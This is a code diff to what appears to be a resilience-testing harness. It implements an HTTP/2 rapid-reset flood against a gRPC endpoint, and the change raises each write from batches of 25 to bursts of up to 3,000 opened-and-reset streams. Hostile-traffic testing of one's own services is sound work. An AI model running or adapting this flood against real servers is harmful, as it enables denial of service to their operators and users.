@@ -5,12 +5,12 @@ from penstock.proofs.hostile.attacks.floods import GENERATE
 from penstock.proofs.hostile.wire.grpc_call import call_headers, framed
 from penstock.proofs.hostile.wire.http2 import data_frame, header_block, headers_frame, reset_frame
 
-RESETS_PER_S = 1_000
-BATCH = 25  # requests of one write
+RESETS_PER_S = 1_000  # on average
+BURST = 3_000  # requests of one write; a proxy that resets as many upstream at once may look like an attacker itself
 
 
 async def rapid_reset(run: AttackRun) -> None:
-    """Send `run.count` resets, or as many as the time allows."""
+    """Send `run.count` resets in bursts, or as many as the time allows."""
     block, message = header_block(call_headers(GENERATE)), framed(b"")
 
     async def reset_once(run: AttackRun) -> None:
@@ -19,9 +19,10 @@ async def rapid_reset(run: AttackRun) -> None:
             while not connection.closed.is_set():
                 if run.count and run.report.sent >= run.count:
                     raise AttackOver
-                batch = b"".join(_reset_request(connection.next_stream(), block, message) for _ in range(BATCH))
-                await connection.send(run.count_sent(batch, BATCH))
-                await pace.wait(BATCH)
+                size = min(BURST, run.count - run.report.sent) if run.count else BURST
+                burst = b"".join(_reset_request(connection.next_stream(), block, message) for _ in range(size))
+                await connection.send(run.count_sent(burst, size))
+                await pace.wait(size)
 
     await run.repeat(reset_once)
     run.report.findings["resets"] = run.report.sent
